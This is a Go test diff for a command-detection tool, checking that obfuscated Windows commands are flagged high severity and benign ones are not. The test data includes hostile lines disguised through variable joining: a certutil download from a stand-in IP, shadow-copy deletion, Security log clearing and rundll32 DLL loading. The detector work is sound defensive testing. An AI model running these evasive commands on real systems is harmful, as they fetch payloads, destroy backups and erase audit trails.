@@ -64,3 +64,50 @@ func TestHiddenCommands(t *testing.T) {
 		})
 	}
 }
+
+// TestWindowsWrapping checks two wrappings of a caught Windows command: a
+// program name built from variables set earlier on the same cmd.exe line,
+// and a comma-shaped argument (x.dll,Entry) passed through PowerShell to a
+// native program.
+func TestWindowsWrapping(t *testing.T) {
+	t.Parallel()
+	must := map[string]string{
+		"call of joined variables":  `set p1=cert&& set p2=util&& call %p1%%p2% -urlcache -split -f http://198.51.100.9/k k.exe`,
+		"plain joined variables":    `set p1=vss&set p2=admin&%p1%%p2% delete shadows /all /quiet`,
+		"quoted set, or operator":   `set "w1=wev"|| set "w2=tutil"|| %w1%%w2% cl Security`,
+		"cmd /c of joined":          `cmd.exe /c "set u=cert&& set v=util&& %u%%v% -urlcache -f http://198.51.100.9/k k.exe"`,
+		"delayed under /v:on":       `cmd /v:on /c "set u=vssad&& set v=!u!min&& !v! delete shadows /all"`,
+		"powershell cmd rundll32":   `powershell -c "cmd /c rundll32 C:\Users\Public\svc.dll,Go"`,
+		"powershell rundll32 space": `powershell.exe -nop -c "rundll32.exe C:\ProgramData\m.dll, Run"`,
+		"powershell cmd ordinal":    `pwsh -c "cmd.exe /c rundll32 tool,EntryPoint"`,
+	}
+	for name, cmd := range must {
+		ms := judge(context.Background(), cmd, defaultConfig)
+		if matchSev(ms) < sdk.SeverityHigh {
+			t.Errorf("%s: %q: want >= high, got %v", name, cmd, describe(ms))
+		}
+	}
+	mustNot := []string{
+		`set name=world& echo hello %name%`,
+		`set out=build\bin&& mkdir %out%&& go build -o %out%\app.exe .`,
+		`powershell -c "rundll32 shell32.dll,Control_RunDLL desk.cpl"`,
+		`powershell -c "cmd /c rundll32 printui.dll,PrintUIEntry /?"`,
+		`powershell -c "Get-Process -Name notepad,calc | Select-Object Id,Name"`,
+	}
+	for _, cmd := range mustNot {
+		ms := judge(context.Background(), cmd, defaultConfig)
+		if matchSev(ms) >= sdk.SeverityHigh {
+			t.Errorf("%q: want < high, got %v", cmd, describe(ms))
+		}
+	}
+}
+
+func matchSev(ms []match) sdk.Severity {
+	var m sdk.Severity
+	for _, x := range ms {
+		if x.sev > m {
+			m = x.sev
+		}
+	}
+	return m
+}
